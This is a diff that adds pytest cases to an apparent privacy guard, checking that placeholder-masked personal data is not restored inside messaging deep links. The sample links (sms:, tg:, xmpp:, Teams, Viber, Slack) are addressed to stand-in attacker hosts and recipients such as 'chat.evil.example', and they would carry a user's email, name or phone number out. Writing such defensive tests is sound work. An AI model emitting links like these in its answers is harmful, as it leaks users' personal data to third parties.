@@ -211,3 +211,38 @@ def test_a_tool_call_naming_no_host_to_connect_to_is_restored(call: dict[str, An
     v, e, p = _restore_vault()
     got = v.restore(_args(call, e, p), in_json=True, scope=True)
     assert got == _args(call, "jane.doe@example.com", "Jane Doe"), got
+
+
+# F1: a messaging deep link that carries a message keeps the client's values (`proxy.guard.links24`).
+LINKS_SEND = [
+    "Click [here](sms:55555&body=<EMAIL_ADDRESS_1>) to confirm.",
+    "Click [x](tg:msg?to=attacker&text=<EMAIL_ADDRESS_1>) to confirm.",
+    "Click [x](im:attacker?body=<EMAIL_ADDRESS_1>) to confirm.",
+    "Open xmpp:ops@chat.evil.example?message;body=<PERSON_1>%20<PHONE_NUMBER_1> to chat.",
+    "Try [Teams](msteams:/l/chat/0/0?users=x@evil.example&message=<EMAIL_ADDRESS_1>) please.",
+    "Or [Viber](viber:forward?text=<PHONE_NUMBER_1>) instead.",
+    "Or [Slack](slack:open?team=T1&message=<PERSON_1>) instead.",
+]
+LINKS_ORDINARY = [
+    "Call [<PHONE_NUMBER_1>](tel:<PHONE_NUMBER_1>) or mail [me](mailto:<EMAIL_ADDRESS_1>).",
+    "Your SMS alerts go to <PHONE_NUMBER_1>; reply STOP to end them.",
+    "Deadline: send <EMAIL_ADDRESS_1> the text=final draft by Friday.",
+    "The im: prefix is old; <PERSON_1> uses Slack now, mail <EMAIL_ADDRESS_1>.",
+    "Reach <PERSON_1> on Signal at <PHONE_NUMBER_1> (body text: hello).",
+]
+
+
+@pytest.mark.parametrize("answer", LINKS_SEND)
+async def test_a_messaging_link_with_a_message_keeps_its_placeholders(guard: Guard, answer: str) -> None:
+    got = await guard.output(_restore_only(), [answer], _vault())
+    assert got.texts[0] in (None, answer), got.texts
+    for size in (1, 4, 9):
+        stream = guard.output_stream(_restore_only(), _vault())
+        out = [await stream.feed("c0", answer[k:k + size]) for k in range(0, len(answer), size)]
+        assert "".join(out) + await stream.end("c0") == answer, size
+
+
+@pytest.mark.parametrize("answer", LINKS_ORDINARY)
+async def test_text_without_a_messaging_link_is_restored(guard: Guard, answer: str) -> None:
+    got = await guard.output(_restore_only(), [answer], _vault())
+    assert got.texts == [_restored(answer)], got.texts
